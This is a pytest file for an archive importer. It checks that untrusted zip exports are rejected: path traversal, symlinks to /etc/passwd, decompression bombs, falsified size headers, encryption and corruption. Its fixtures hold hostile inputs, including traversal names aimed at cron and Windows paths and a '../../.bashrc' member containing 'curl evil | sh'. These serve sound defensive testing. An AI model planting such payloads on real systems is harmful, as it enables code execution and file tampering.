"""Untrusted export archives: limits, traversal, symlinks, bombs, encryption, corruption."""

from __future__ import annotations

import io
import os
import stat
import struct
import zipfile

import pytest

from crawlers.importers import import_export
from crawlers.importers.archives import (
    ArchiveError,
    ArchiveLimits,
    CorruptArchive,
    EncryptedArchive,
    UnsafeArchive,
    check_member_name,
    open_export,
)
from tests.crawlers.importers.conftest import EXPORTS, crawl_run_row, stored_documents, zip_export

MiB = 1024 * 1024
LOCAL_HEADER = b"PK\x03\x04"
CENTRAL_HEADER = b"PK\x01\x02"


def _zip_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _patch_headers(data: bytes, *, local_offset: int, central_offset: int, fmt: str, value: int) -> bytes:
    """Overwrite one field in every local and central directory header (what a hand-made hostile zip does)."""
    patched = bytearray(data)
    for signature, offset in ((LOCAL_HEADER, local_offset), (CENTRAL_HEADER, central_offset)):
        start = patched.find(signature)
        while start != -1:
            field = start + offset
            current = struct.unpack_from(fmt, patched, field)[0]
            struct.pack_into(fmt, patched, field, value(current) if callable(value) else value)
            start = patched.find(signature, start + 4)
    return bytes(patched)


def _encrypted(data: bytes) -> bytes:
    """Set general-purpose flag bit 0 (encrypted), as a password-protected zip has it."""
    return _patch_headers(data, local_offset=6, central_offset=8, fmt="<H", value=lambda flags: flags | 0x1)


@pytest.fixture
def no_inflation(monkeypatch):
    """Fails the test if any member is opened for reading (i.e. inflated)."""
    open_member = zipfile.ZipFile.open

    def open_for_writing_only(self, name, mode="r", *args, **kwargs):
        assert mode == "w", "a member was read: the archive was not rejected before extraction"
        return open_member(self, name, mode, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "open", open_for_writing_only)


@pytest.mark.parametrize(
    "name", ["../evil.sh", "posts/../../evil.sh", "/etc/cron.d/evil", "..\\..\\evil.bat", "C:/Windows/evil.dll"]
)
def test_paths_that_escape_are_rejected_before_extraction(name, no_inflation):
    data = _zip_bytes({"posts.csv": b"post_id\n", name: b"echo owned"})
    with pytest.raises(UnsafeArchive, match="unsafe path in archive"):
        open_export(data)


def test_member_names_are_normalised():
    assert check_member_name("./Basic_Export/Articles//Articles/a.html") == "Basic_Export/Articles/Articles/a.html"


def test_symlink_members_are_rejected(no_inflation):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("posts/passwd.html")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    with pytest.raises(UnsafeArchive, match="symbolic link"):
        open_export(buffer.getvalue())


def test_decompression_bomb_is_rejected_from_the_central_directory(no_inflation):
    bomb = _zip_bytes({"posts.csv": b"post_id\n", "posts/1.html": b"\0" * (16 * MiB)})
    assert len(bomb) < 100_000
    with pytest.raises(UnsafeArchive, match="decompression bomb"):
        open_export(bomb)


def test_size_and_count_limits_are_checked_before_extraction(no_inflation):
    data = _zip_bytes({f"posts/{n}.html": os.urandom(2000) for n in range(5)})
    with pytest.raises(UnsafeArchive, match="per file"):
        open_export(data, ArchiveLimits(max_member_bytes=1000))
    with pytest.raises(UnsafeArchive, match="inflates to .* more than"):
        open_export(data, ArchiveLimits(max_total_bytes=5000))
    with pytest.raises(UnsafeArchive, match="5 files, more than the 4 allowed"):
        open_export(data, ArchiveLimits(max_members=4))
    with pytest.raises(UnsafeArchive, match="uploaded archive is .* more than"):
        open_export(data, ArchiveLimits(max_upload_bytes=len(data) - 1))


def test_a_header_that_understates_the_size_does_not_inflate_past_it():
    honest = _zip_bytes({"posts/1.html": b"<p>" + b"a" * (8 * MiB) + b"</p>"})
    # Claim 1000 bytes (under every limit) in both headers; the data still inflates to 8 MiB.
    lying = _patch_headers(honest, local_offset=22, central_offset=24, fmt="<I", value=1000)
    with open_export(lying) as archive:
        with pytest.raises(CorruptArchive, match="cannot be read"):
            archive.read("posts/1.html")


def test_limits_are_enforced_while_streaming(tmp_path):
    (tmp_path / "posts").mkdir()
    (tmp_path / "posts" / "big.html").write_bytes(b"x" * 5000)
    (tmp_path / "posts" / "small.html").write_bytes(b"x" * 10)
    with open_export(tmp_path, ArchiveLimits(max_member_bytes=4096)) as archive:
        assert archive.read("posts/small.html") == b"x" * 10
        with pytest.raises(UnsafeArchive, match="larger than the 4.0 KiB allowed per file"):
            archive.read("posts/big.html")


def test_encrypted_members_are_rejected_with_a_clear_error(no_inflation):
    data = _encrypted(_zip_bytes({"posts.csv": b"post_id\n"}))
    with pytest.raises(EncryptedArchive, match="password-protected .* export it again without a password"):
        open_export(data)


@pytest.mark.parametrize("damage", ["truncated", "not_a_zip", "empty"])
def test_truncated_or_corrupt_zip_is_a_clear_error(damage, tmp_path):
    data = _zip_bytes({"posts.csv": b"post_id\n" * 100, "posts/1.html": b"<p>hello</p>" * 100})
    broken = {"truncated": data[: len(data) // 2], "not_a_zip": b"<html>Download failed</html>", "empty": b""}[damage]
    path = tmp_path / "export.zip"
    path.write_bytes(broken)
    with pytest.raises(CorruptArchive, match="export.zip is not a readable zip file .* download the export again"):
        open_export(path)


def test_a_corrupt_member_fails_only_when_read():
    data = bytearray(_zip_bytes({"posts/good.html": b"<p>good</p>" * 50, "posts/bad.html": os.urandom(3000)}))
    bad_header = data.find(LOCAL_HEADER, data.find(LOCAL_HEADER) + 4)
    data[bad_header + 100 : bad_header + 200] = bytes(100)  # zero out part of bad.html's compressed data
    with open_export(bytes(data)) as archive:
        assert archive.read("posts/good.html") == b"<p>good</p>" * 50
        with pytest.raises(CorruptArchive, match="posts/bad.html cannot be read"):
            archive.read("posts/bad.html")


def test_opens_paths_folders_bytes_and_uploads(tmp_path):
    zipped = zip_export(EXPORTS / "substack", tmp_path / "substack.zip")
    sources = [zipped, EXPORTS / "substack", zipped.read_bytes(), io.BytesIO(zipped.read_bytes())]
    for source in sources:
        with open_export(source) as archive:
            assert "posts.csv" in archive
            assert archive.find(r"^posts/\d+\.[^/]+\.html$")[0] == "posts/139000001.why-postgres-is-enough.html"
            assert archive.read("posts.csv").startswith(b"post_id,post_date")
    with pytest.raises(ArchiveError, match="does not exist"):
        open_export(tmp_path / "missing.zip")


def test_folder_with_a_symlink_is_rejected(tmp_path):
    (tmp_path / "posts").mkdir()
    (tmp_path / "posts" / "secret.html").symlink_to("/etc/passwd")
    with pytest.raises(UnsafeArchive, match="symbolic link"):
        open_export(tmp_path)


@pytest.mark.parametrize(
    "hostile, expected",
    [
        ("traversal", "points outside the archive"),
        ("bomb", "decompression bomb"),
        ("encrypted", "password-protected"),
        ("truncated", "not a readable zip file"),
    ],
)
def test_a_rejected_archive_fails_the_crawl_run_and_stores_nothing(hostile, expected, engine, user_id, tmp_path):
    good = zip_export(EXPORTS / "medium", tmp_path / "good.zip").read_bytes()
    data = {
        "traversal": lambda: _zip_bytes({"posts/a.html": b"<p>x</p>", "../../.bashrc": b"curl evil | sh"}),
        "bomb": lambda: _zip_bytes({"posts/a.html": b" " * (16 * MiB)}),
        "encrypted": lambda: _encrypted(good),
        "truncated": lambda: good[:-300],
    }[hostile]()
    path = tmp_path / "medium-export.zip"
    path.write_bytes(data)

    summary = import_export("medium", path, user_id, engine)

    assert summary.status == "failed"
    assert expected in summary.errors[0]["error"] and summary.errors[0]["url"] is None
    row = crawl_run_row(engine, summary.crawl_run_id)
    assert row["status"] == "failed" and expected in row["error"]
    assert row["source"] == "medium-export" and row["finished_at"] is not None
    assert stored_documents(engine, user_id) == []
    assert not list(tmp_path.glob("posts*")) and not (tmp_path.parent / ".bashrc").exists()
